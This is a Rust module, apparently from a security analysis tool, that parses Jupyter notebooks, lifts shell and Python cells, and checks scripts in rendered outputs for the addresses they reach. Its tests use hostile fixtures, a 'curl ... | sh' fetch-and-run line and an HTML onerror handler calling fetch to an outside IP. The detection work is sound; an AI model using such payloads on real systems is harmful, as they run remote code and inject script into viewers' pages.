//! Jupyter notebooks: cells of code, with what they printed when they ran last. Shell lines and Python are lifted,
//! scripts in pages are asked what they reach.
//!
//! Specification: `nbformat/v4/nbformat.v4.schema.json` in `jupyter/nbformat`.

use crate::markup;
use crate::spanned_json::{self, Json, Reader as JsonReader};
use crate::{Family, Reader, Request};
use cell::Cell;
use wb_code::javascript::Reach;
use wb_core::{Budget, Bytes, Child, ChildData, Component, Content, Field, Program, Span, Strength, Text, Trigger};

mod cell;

pub(crate) const FORMAT: Reader = Reader {
    title: "Jupyter notebook",
    endings: &[".ipynb"],
    family: Family::Source,
    refines: &["json"],
    identify,
    parse,
    named: None,
};

/// Longest output that is kept, in bytes.
const KEPT: usize = 16 << 10;

/// Files up to this length are looked through for the names of a notebook, in bytes.
const LONGEST: usize = 64 << 20;

/// How much of each end of a longer file is.
const END: usize = 1 << 20;

/// A document with cells whose format says its version.
fn identify(input: Bytes<'_>) -> Option<Strength> {
    let opens = input.as_slice().trim_ascii_start().first() == Some(&b'{');
    // What is longer is a log, or is named at one of its ends as every writer of notebooks names it.
    let parts = match input.len().checked_sub(END) {
        Some(tail) if input.len() > LONGEST => [input.head(END), input.from(tail)],
        _ => [input, input.head(0)],
    };
    let has = |name: &[u8]| parts.iter().any(|part| part.find(name).is_some());
    (opens && has(b"\"nbformat\"") && has(b"\"cells\"")).then_some(Strength::Strong)
}

fn parse(input: Bytes<'_>, _request: &Request<'_>, budget: &mut Budget) -> Content {
    let mut content = Content::default();
    if let Some(json) = spanned_json::file(input, JsonReader::new(input), &mut content, budget) {
        notebook(&json, &mut content, budget);
    }
    content
}

fn notebook(json: &Json, content: &mut Content, budget: &mut Budget) {
    if let Some(kernel) = json.get("metadata").and_then(|metadata| metadata.get("kernelspec")) {
        let (path, value) = ("kernelspec".to_owned(), kernel.display());
        content.fields.push(Field { path, value, span: Some(kernel.span) });
    }
    let cells = json.get("cells").map(Json::items).unwrap_or_default();
    for (index, cell) in cells.iter().enumerate() {
        let place = format!("cells[{index}]");
        let source = cell.get("source").map(joined).unwrap_or_default();
        let kind = cell.text_at("cell_type").unwrap_or_default();
        if kind == "code" {
            code(&place, cell, &source, content, budget);
        } else if !source.is_empty() {
            content.texts.push(Text { place: place.clone(), value: source, span: Some(cell.span) });
        }
        for output in cell.get("outputs").map(Json::items).unwrap_or_default() {
            outputs(&place, output, content, budget);
        }
    }
}

/// Text, or a list of lines with their ends.
fn joined(json: &Json) -> String {
    match json.text() {
        Some(text) => text.to_owned(),
        None => json.items().iter().filter_map(Json::text).collect(),
    }
}

/// A cell of code, by what it is made of.
fn code(place: &str, cell: &Json, source: &str, content: &mut Content, budget: &mut Budget) {
    content.components.push(Component {
        kind: "cell",
        name: place.to_owned(),
        class: "code".to_owned(),
        place: place.to_owned(),
        span: Some(cell.span),
        ..Component::default()
    });
    let parts = Cell::of(source);
    let mut gap = |why: &str| content.gaps.push(wb_core::Gap::over(cell.span, format!("{place}: {why}")));
    let mut programs: Vec<Program> = Vec::new();
    if !parts.shell.trim().is_empty() {
        programs.push(wb_code::shell::lift(&parts.shell, Trigger::Run, budget));
    }
    if !parts.python.trim().is_empty() {
        match wb_code::python::lift(&parts.python, Trigger::Run, budget) {
            Some(program) => programs.push(program),
            None => gap("not read as Python"),
        }
    }
    if let Some(magic) = parts.unread {
        gap(&format!("what `{magic}` does with it is not read"));
    }
    for mut program in programs {
        place.clone_into(&mut program.place);
        // The text of a cell is escaped in the file: an op has the bytes of its cell.
        program.stand_at(cell.span);
        content.programs.push(program);
    }
    if let Some((kind, shown)) = parts.page {
        page(place, kind, &shown, cell.span, content, budget);
    }
    if let Some(value) = parts.text {
        content.texts.push(Text { place: place.to_owned(), value, span: Some(cell.span) });
    }
    if let Some((name, data)) = parts.file {
        let name = format!("{place}, {name}");
        content.children.push(Child { name, data: ChildData::Owned(data.into_bytes()) });
    }
}

/// What a cell printed; HTML and JavaScript among it run when the notebook is shown.
fn outputs(place: &str, output: &Json, content: &mut Content, budget: &mut Budget) {
    for (kind, value) in output.get("data").map(Json::entries).unwrap_or_default() {
        page(&format!("{place}, output {kind}"), kind, &joined(value), value.span, content, budget);
    }
    let mut keep = |kind: &str, json: &Json| {
        let mut value = joined(json);
        value.truncate(value.floor_char_boundary(KEPT));
        if !value.is_empty() {
            let place = format!("{place}, output {kind}");
            content.texts.push(Text { place, value, span: Some(json.span) });
        }
    };
    if let Some(text) = output.get("text") {
        keep("text", text);
    }
    for (kind, value) in output.get("data").map(Json::entries).unwrap_or_default() {
        if kind.starts_with("text/") || kind.ends_with("javascript") {
            keep(kind, value);
        }
    }
}

/// The scripts of what a viewer shows as HTML, SVG or JavaScript, and what they reach.
fn page(place: &str, kind: &str, shown: &str, span: Span, content: &mut Content, budget: &mut Budget) {
    let script = kind.ends_with("javascript");
    if !script && !kind.ends_with("html") && !kind.ends_with("svg+xml") {
        return;
    }
    if budget.steps(shown.len() as u64).is_err() || shown.len() > wb_code::javascript::LONGEST {
        content.gaps.push(wb_core::Gap::over(span, format!("{place}: too large to be read as a page")));
        return;
    }
    let scripts = match script {
        true => vec![markup::Script::inline("script", shown)],
        false => markup::scripts(shown),
    };
    for script in scripts.into_iter().filter(|script| script.reach != Reach::default()) {
        let Reach { addresses, kernel, decodes } = script.reach;
        for code in kernel.iter().filter(|code| !code.is_empty()) {
            let Some(mut program) = wb_code::python::lift(code, Trigger::Run, budget) else { continue };
            place.clone_into(&mut program.place);
            program.stand_at(span);
            content.programs.push(program);
        }
        let field = |path: &str, value: String| Field { path: path.to_owned(), value, span: Some(span) };
        let decodes = decodes.then(|| field("decodes", "true".to_owned()));
        content.components.push(Component {
            kind: "script",
            name: place.to_owned(),
            class: script.how,
            place: place.to_owned(),
            span: Some(span),
            settings: addresses
                .into_iter()
                .map(|address| field("address", address))
                .chain(kernel.into_iter().map(|code| field("kernel", code)))
                .chain(decodes)
                .collect(),
            ..Component::default()
        });
    }
}

#[cfg(test)]
mod tests {
    use crate::testing::{claims, gaps, parse, survive};
    use wb_core::Language;

    fn notebook(source: &str) -> String {
        format!(
            r#"{{"cells": [{{"cell_type": "markdown", "source": ["Title"]}}, {{"cell_type": "code", "source": {source}, "outputs": [{{"output_type": "display_data", "data": {{"text/html": ["<script>x</script>"]}}}}]}}], "metadata": {{"kernelspec": {{"name": "python3"}}}}, "nbformat": 4, "nbformat_minor": 5}}"#
        )
    }

    #[test]
    fn code_and_shell_lines_are_lifted() {
        let text = notebook(r#"["import os\n", "!curl -s http://192.0.2.9/x | sh\n", "%matplotlib inline\n", "os.getcwd()"]"#);
        assert_eq!(claims(text.as_bytes()), "notebook (json)");
        let content = parse("notebook", text.as_bytes());
        let languages: Vec<Language> = content.programs.iter().map(|program| program.language).collect();
        assert_eq!(languages, [Language::Shell, Language::Python]);
        assert!(content.programs.iter().all(|program| program.place == "cells[1]"));
        assert!(gaps(&content).is_empty());
        let texts: Vec<&str> = content.texts.iter().map(|text| text.place.as_str()).collect();
        assert_eq!(texts, ["cells[0]", "cells[1], output text/html"]);
    }

    #[test]
    fn cells_for_the_shell_are_shell() {
        let content = parse("notebook", notebook(r#""%%bash\nls\n""#).as_bytes());
        assert_eq!(content.programs[0].language, Language::Shell);
        let content = parse("notebook", notebook(r#""%%writefile handler.py\nimport os\n""#).as_bytes());
        assert_eq!(content.children[0].name, "cells[1], handler.py");
        assert_eq!(gaps(&parse("notebook", notebook(r#""%%R\nplot(x)""#).as_bytes())), ["cells[1]: what `%%R` does with it is not read"]);
        assert_eq!(gaps(&parse("notebook", notebook(r#""not python at all""#).as_bytes())), ["cells[1]: not read as Python"]);
    }

    #[test]
    fn scripts_of_pages_are_asked_what_they_reach() {
        let cell = notebook(r#""%%javascript\nJupyter.notebook.kernel.execute('import os')\n""#);
        let content = parse("notebook", cell.as_bytes());
        let script = content.components.iter().find(|part| part.kind == "script").expect("a script");
        assert_eq!((script.place.as_str(), script.setting("kernel")), ("cells[1]", Some("import os")));
        assert_eq!(content.programs[0].language, Language::Python);
        let shown = notebook(r#""x""#).replace("<script>x<", "<img src=x onerror=\\\"fetch('http://192.0.2.9/')\\\"><");
        let content = parse("notebook", shown.as_bytes());
        let script = content.components.iter().find(|part| part.kind == "script").expect("a script");
        assert_eq!(script.place, "cells[1], output text/html");
        assert_eq!((script.class.as_str(), script.setting("address")), ("onerror", Some("http://192.0.2.9/")));
    }

    #[test]
    fn other_documents_are_none() {
        assert_eq!(claims(br#"{"cells": [], "rows": 4}"#), "(json)");
    }

    #[test]
    fn damage_is_survived() {
        survive("notebook", notebook(r#"["!ls\n", "x = 1"]"#).as_bytes());
    }
}
